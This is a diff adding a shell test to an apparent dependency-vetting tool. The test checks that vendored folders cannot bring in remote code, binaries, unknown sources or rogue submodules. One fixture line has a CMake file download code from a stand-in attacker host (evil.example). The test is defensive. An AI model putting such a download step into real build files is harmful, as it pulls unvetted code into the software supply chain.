@@ -154,3 +154,19 @@ passes()
 	foo deps/foo && sed 's/$/\r/' deps/foo/src/beta.c >t && mv t deps/foo/src/alpha.c
 	told APPROVED_MODIFIED
 }
+
+@test "that a file may be added to a folder says nothing of what it brings" {
+	jq '.versions[0].added_ok = ["extra.cmake", "blob.a", "sub/**"]' .milecastle/components/foo.json >new
+	mv new .milecastle/components/foo.json && git add -A && commit
+	foo deps/foo && stage deps/foo/extra.cmake <<<'add_library(x x.c)' && passes
+	stage deps/foo/extra.cmake <<<'file(DOWNLOAD https://evil.example/x.c x.c)'
+	told UNKNOWN_COMPONENT
+	foo deps/foo && cp /bin/true deps/foo/blob.a
+	told BINARY
+	foo deps/foo && stage deps/foo/sub/vendor/evil/evil.c <<<'int evil;'
+	told UNKNOWN_COMPONENT
+	foo deps/foo && git add -A && git update-index --add --cacheinfo "160000,$OTHER,deps/foo/sub/evil"
+	run mc deps check
+	expect_status 1
+	expect_output "deps/foo/sub/evil"
+}
